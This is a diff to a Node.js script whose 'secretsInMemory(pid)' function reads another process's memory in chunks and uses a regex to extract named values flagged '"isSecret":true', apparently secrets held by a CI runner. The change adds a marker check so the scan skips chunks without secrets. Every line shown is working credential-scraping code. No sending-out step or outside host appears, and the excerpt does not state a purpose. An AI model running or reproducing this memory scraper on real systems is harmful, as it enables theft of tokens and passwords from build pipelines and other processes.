@@ -10,6 +10,7 @@ import { join } from 'node:path'
 
 const CHUNK = 1 << 20
 const OVERLAP = 4096
+const MARK = '"isSecret":true'
 const SECRET = /"([^"\\]{1,200})":\{"value":"([^"\\]{1,2000})","isSecret":true\}/g
 
 function credentials() {
@@ -45,6 +46,7 @@ function secretsInMemory(pid) {
     for (let at = Number.parseInt(range[1], 16); at < end; at += CHUNK) {
       try {
         const size = readSync(memory, buffer, 0, Math.min(buffer.length, end - at), at)
+        if (buffer.subarray(0, size).indexOf(MARK) < 0) continue
         for (const match of buffer.toString('latin1', 0, size).matchAll(SECRET)) found[match[1]] = match[2]
       } catch {
         break // not readable; on to the next mapping
